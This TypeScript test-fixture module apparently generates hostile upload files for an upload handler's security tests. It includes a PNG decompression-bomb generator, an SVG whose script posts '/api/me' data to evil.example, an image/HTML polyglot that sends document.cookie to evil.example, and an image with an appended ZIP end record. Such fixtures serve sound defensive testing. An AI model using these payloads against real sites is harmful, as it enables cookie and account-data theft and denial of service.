import { crc32, createDeflate } from 'node:zlib';

/**
 * Files that attack an upload, made at run time for the hostile-upload tests (issue 15).
 */

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed) >>> 0);
  return Buffer.concat([length, typed, crc]);
}

/**
 * A decompression bomb: a valid greyscale PNG of `side` × `side` black pixels. At 20,000 a side it is about
 * 400 KB on disk and 400 MB (1.6 GB as RGBA) once decoded.
 */
export async function pngBomb(side = 20_000): Promise<Buffer> {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr.writeUInt8(8, 8); // bit depth
  ihdr.writeUInt8(0, 9); // greyscale
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (c: Buffer) => parts.push(c));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  const row = Buffer.alloc(side + 1); // filter byte 0, then the pixels
  const rowsPerWrite = 256;
  const block = Buffer.concat(new Array<Buffer>(rowsPerWrite).fill(row));
  for (let y = 0; y < side; y += rowsPerWrite) {
    const rows = Math.min(rowsPerWrite, side - y);
    if (!deflate.write(rows === rowsPerWrite ? block : block.subarray(0, rows * row.length))) {
      await new Promise((r) => deflate.once('drain', r));
    }
  }
  deflate.end();
  await done;
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, pngChunk('IHDR', ihdr), pngChunk('IDAT', Buffer.concat(parts)), pngChunk('IEND', Buffer.alloc(0))]);
}

/** An SVG that runs a script when a browser opens it as a page. */
export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></svg>',
);

/** An image followed by a web page: a polyglot that is a valid picture and, sniffed as HTML, a script. */
export function withHtmlPayload(image: Buffer): Buffer {
  return Buffer.concat([image, Buffer.from('<html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>')]);
}

/** An image followed by a ZIP archive's end record: readers that look from the end (JARs, Office) see an archive. */
export function withZipPayload(image: Buffer): Buffer {
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  return Buffer.concat([image, eocd]);
}
